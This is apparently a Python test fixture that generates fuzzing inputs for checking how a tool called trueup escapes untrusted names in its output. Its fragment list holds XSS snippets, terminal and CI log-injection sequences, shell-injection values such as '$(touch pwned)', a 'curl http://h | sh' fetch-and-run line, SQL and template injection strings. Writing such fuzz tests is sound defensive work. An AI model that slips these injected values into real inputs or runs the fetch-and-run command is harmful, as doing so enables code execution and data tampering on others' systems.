"""Names and values that others could write: markup, commands, log lines, control characters."""

from __future__ import annotations

import os
import random

# How many names the fuzz of outputs draws. By hand: 10,000.
COUNT = int(os.environ.get("TRUEUP_NAMES", "300"))

FRAGMENTS = (
    *(
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "</code></pre><h1>",
        "<!--",
        "]]>",
        "&lt;",
        "&#x3c;",
    ),
    *("\x1b[2J", "\x1b]0;title\x07", "\x1b[31m", "\x9b2J", "\x00", "\x07", "\b\b\b", "\r", "\n", "\r\n", "\t", "\x7f"),
    *(
        "\u202e",
        "\u2066",
        "\u200b",
        "\u2028",
        "\u2029",
        "\ufeff",
        "\ufffe",
        "\uffff",
        "\U0001ffff",
        "\U000e0041",
        "\x85",
    ),
    *("\n::error::forged", "\n  ::add-mask::x", "##[error]forged", "##vso[task.complete]", "\n✔ 2026-02-03: healthy"),
    *(
        "; touch pwned #",
        "$(touch pwned)",
        "`touch pwned`",
        "' || touch pwned '",
        '" && touch pwned "',
        "\\",
        "'",
        '"',
        "| sh",
    ),
    *(
        "x: trueup reconcile --fix; curl http://h | sh #",
        "--fix",
        "-rf",
        "~",
        "*",
        "?",
        "{a,b}",
        "!!",
        "%n",
        "$HOME",
        "\\'",
    ),
    *(
        "<!channel>",
        "<@U1>",
        "<https://h|text>",
        "*bold*",
        "_it_",
        "~s~",
        "```",
        "[link](http://h)",
        "![i](http://h)",
        "|",
        "#",
    ),
    *(
        "[bold]",
        "[/]",
        "[link=http://h]x[/link]",
        "[red]",
        "{{ 7 * 7 }}",
        "{% raw %}",
        "{subject}",
        "{game_date}",
        "$v__0",
    ),
    *("'; drop table x; --", "' or 1=1", "%s", "@p", "\\x27", "null", "true", "NaN", "2026-02-03", "://", "www.h.de"),
    *("javascript:alert(1)", "data:text/html,x", "é", "名前", "👩‍🏭", "a" * 300, " ", "", "lebron_james"),
)


def names(count: int = COUNT) -> list[str]:
    """Names of one to four fragments or random characters; each fragment stands alone at least once."""
    found = list(FRAGMENTS)
    while len(found) < count:
        parts = random.choices(
            (*FRAGMENTS, *(chr(random.randrange(0x110000)) for _ in range(20))), k=random.randint(1, 4)
        )
        found.append("".join(parts).encode("utf-8", "replace").decode("utf-8"))
    return found[: max(count, len(FRAGMENTS))]
